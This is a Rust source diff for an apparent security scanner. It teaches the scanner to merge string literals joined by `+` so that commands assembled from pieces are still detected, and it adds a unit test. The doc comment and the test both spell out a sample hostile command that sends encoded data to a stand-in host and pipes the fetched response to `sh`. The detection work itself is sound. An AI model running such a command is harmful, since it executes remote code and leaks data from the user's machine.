@@ -240,10 +240,70 @@ fn is_name_literal(lit: &str) -> bool {
             .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'))
 }
 
-/// The string literals of `code` (for content written to a file: each is judged as a command
-/// line too, `Command::new("sh").arg("-c").arg("curl … | sh")`).
+/// The string literals of `code`, with literals joined by `+` concatenation read as one
+/// (`'curl -s https://x/i?p=' + enc(t) + ' | sh'` → `curl -s https://x/i?p=X | sh`): for
+/// content written to a file, each is judged as a command line too.
 pub(crate) fn string_literals(code: &str) -> Vec<String> {
-    literals(code)
+    let spans = literal_spans(code);
+    let mut out: Vec<String> = Vec::new();
+    let mut current: Option<(String, usize)> = None;
+    for (start, end, text) in spans {
+        current = match current {
+            Some((mut acc, prev_end)) => {
+                let gap = code.get(prev_end..start).unwrap_or("");
+                if gap.contains('+') && gap.len() < 200 && !gap.contains([';', '\n']) {
+                    if !gap.trim().trim_matches('+').trim().is_empty() && !acc.ends_with('X') {
+                        acc.push('X');
+                    }
+                    acc.push_str(&text);
+                    Some((acc, end))
+                } else {
+                    out.push(acc);
+                    Some((text, end))
+                }
+            }
+            None => Some((text, end)),
+        };
+        if out.len() >= MAX_LITERALS {
+            break;
+        }
+    }
+    out.extend(current.map(|(acc, _)| acc));
+    out
+}
+
+/// Every string literal of `code` with its byte span (quotes included).
+fn literal_spans(code: &str) -> Vec<(usize, usize, String)> {
+    let mut out = Vec::new();
+    let mut chars = code.char_indices();
+    while let Some((start, c)) = chars.next() {
+        if !matches!(c, '\'' | '"' | '`') {
+            continue;
+        }
+        let mut lit = String::new();
+        let mut escaped = false;
+        let mut end = code.len();
+        for (i, x) in chars.by_ref() {
+            if escaped {
+                lit.push(x);
+                escaped = false;
+            } else if x == '\\' {
+                escaped = true;
+            } else if x == c {
+                end = i + x.len_utf8();
+                break;
+            } else {
+                lit.push(x);
+            }
+        }
+        if lit.len() < 4096 {
+            out.push((start, end, lit));
+        }
+        if out.len() >= MAX_LITERALS * 4 {
+            break;
+        }
+    }
+    out
 }
 
 /// A literal that names a host to connect to (an address, or a dotted name).
@@ -262,6 +322,19 @@ fn is_host_literal(lit: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn concatenated_literals_read_as_one() {
+        let js = "e('curl -s https://x.example/i?p='+encodeURIComponent(t||'')+' | sh')";
+        assert!(
+            string_literals(js)
+                .iter()
+                .any(|l| l == "curl -s https://x.example/i?p=X | sh"),
+            "{:?}",
+            string_literals(js)
+        );
+        assert_eq!(string_literals("a('x'); b('y')"), vec!["x", "y"]);
+    }
 
     #[test]
     fn literals_and_shapes() {
